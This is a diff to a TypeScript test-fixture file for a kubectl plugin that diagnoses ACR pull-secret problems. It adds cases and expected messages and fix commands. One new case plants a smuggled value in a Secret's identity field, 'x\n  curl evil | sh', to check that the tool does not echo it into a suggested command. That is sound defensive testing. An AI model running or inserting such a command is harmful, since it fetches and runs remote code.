@@ -37,14 +37,25 @@ export const credentials: readonly Expected[] = [
     fix: `kubectl acr-secret create acr --registry ${r} --expires-in 1d -n demo`,
   },
   {
-    what: "it is refused before it ends",
+    what: "the token's name in the Secret is none",
     given: {
       accounts: { default: ["acr"] },
-      secrets: [ours("acr", "web:wrong", { "expires-at": "2026-03-31T23:58:00Z" })],
+      secrets: [ours("acr", "web:wrong", { identity: "x\n  curl evil | sh" })],
       pods: [pod("web-1", { names: ["acr"] })],
     },
     cause: "refused",
-    fix: `kubectl acr-secret create acr --registry ${r} --acr-token web --expires-in 90d -n demo`,
+    message: refusedBy("acr", "web"),
+    fix: `kubectl acr-secret create acr --registry ${r} -n demo`,
+  },
+  {
+    what: "it is refused before it ends",
+    given: {
+      accounts: { default: ["acr"] },
+      secrets: [ours("acr", "web:wrong", { identity: "ci-pull", "expires-at": "2026-03-31T23:58:00Z" })],
+      pods: [pod("web-1", { names: ["acr"] })],
+    },
+    cause: "refused",
+    fix: `kubectl acr-secret create acr --registry ${r} --acr-token ci-pull --expires-in 90d -n demo`,
   },
   {
     what: "a credential that was given is refused",
@@ -93,7 +104,7 @@ export const credentials: readonly Expected[] = [
       pods: [pod("web-1", { names: ["acr", "reg"] })],
     },
     cause: "refused",
-    message: refusedBy("acr", "web"),
+    message: `${refusedBy("acr", "web")}; the Secret notes that its ACR token is ci-pull`,
     fix: `kubectl acr-secret create acr --registry ${r} --acr-token ci-pull -n demo`,
   },
 
@@ -166,7 +177,7 @@ export const credentials: readonly Expected[] = [
     what: "the Secret that came later is refused too",
     given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:wrong", { identity: "ci-pull" })], pods: [pod("web-1")] },
     cause: "refused",
-    message: `${refusedBy("acr", "web")}; made before serviceaccount/default carried acr`,
+    message: `${refusedBy("acr", "web")}; made before serviceaccount/default carried acr; the Secret notes that its ACR token is ci-pull`,
     fix: `kubectl acr-secret create acr --registry ${r} --acr-token ci-pull -n demo && kubectl delete pod web-1 -n demo`,
   },
 
